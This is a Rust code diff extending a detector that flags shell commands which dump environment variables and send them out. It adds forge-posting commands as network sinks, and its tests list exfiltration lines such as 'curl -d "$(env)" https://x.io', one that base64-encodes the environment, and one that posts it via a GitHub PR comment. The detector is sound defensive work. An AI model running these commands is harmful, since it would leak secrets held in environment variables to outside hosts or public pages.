@@ -73,6 +73,8 @@ fn dumps(command: &Command, words: &[Word]) -> Option<String> {
         "ps" => arguments.first().is_some_and(|word| {
             word.contains('e') && !word.starts_with('-') && word.bytes().all(|byte| b"auxewfljg".contains(&byte))
         }),
+        "systemctl" => arguments.contains(&"show-environment"),
+        "buildkite-agent" => arguments.starts_with(&["env", "dump"]),
         "pipenv" => arguments.contains(&"--support"),
         "php" => arguments.contains(&"-i") || arguments.iter().any(|word| word.contains("phpinfo")),
         "node" | "nodejs" | "bun" | "deno" => after(&arguments, &["-p", "-e", "-pe", "--eval", "--print", "eval"])
@@ -231,6 +233,16 @@ const SEND: &[&str] = &[
     "sendmail",
 ];
 
+/// Whether a client of a forge or a server puts what it reads where people see it.
+fn posts(name: &str, arguments: &[&str]) -> bool {
+    match name {
+        "buildkite-agent" => arguments.first() == Some(&"annotate"),
+        "gh" => arguments.iter().any(|word| matches!(*word, "comment" | "gist" | "-F" | "--body-file")),
+        "glab" => arguments.contains(&"note"),
+        _ => false,
+    }
+}
+
 /// What is left of an output after the pipe behind it, and where it goes; `None` when nothing of the values comes out.
 fn fate(commands: &[Command], index: usize) -> Option<(Kept, Vec<DumpSink>)> {
     let mut kept = Kept::All;
@@ -253,12 +265,15 @@ fn fate(commands: &[Command], index: usize) -> Option<(Kept, Vec<DumpSink>)> {
                 }
             }
         }
-        // What stands in `$( )` is handed to another command.
-        if command.nesting.contains(&Nest::Substitution) {
-            return None;
-        }
         if to_file {
             return Some((kept, sinks));
+        }
+        let inside = command.nesting.iter().rposition(|nest| *nest == Nest::Substitution);
+        if let Some(depth) = inside.filter(|_| command.join != Join::Pipe) {
+            // What stands in `$( )` is handed to another command; one that says it is a print of its own.
+            let outer = commands[..at].iter().rposition(|other| other.nesting == command.nesting[..depth])?;
+            let name = program(text(bare(&commands[outer].words).first()?));
+            return SEND.contains(&name).then(|| (kept, vec![DumpSink::Network]));
         }
         if command.join != Join::Pipe {
             break;
@@ -269,7 +284,7 @@ fn fate(commands: &[Command], index: usize) -> Option<(Kept, Vec<DumpSink>)> {
         let (first, rest) = words.split_first()?;
         let name = program(text(first));
         let arguments: Vec<&str> = rest.iter().map(text).collect();
-        if SEND.contains(&name) {
+        if SEND.contains(&name) || posts(name, &arguments) {
             sinks.push(DumpSink::Network);
             return Some((kept, sinks));
         }
@@ -649,6 +664,12 @@ mod tests {
             ("perl -e 'print %ENV'", "all"),
             ("php -i", "all"),
             ("pipenv --support", "all"),
+            ("systemctl show-environment", "all"),
+            ("buildkite-agent env dump", "all"),
+            ("curl -d \"$(env)\" https://x.io", "all>net"),
+            ("curl --data \"$(env | base64)\" https://x.io", "encoded>net"),
+            ("env | buildkite-agent annotate", "all>net"),
+            ("env | gh pr comment 1 --body-file -", "all>net"),
         ] {
             assert_eq!(shown(line, Language::Posix), [expected], "{line}");
         }
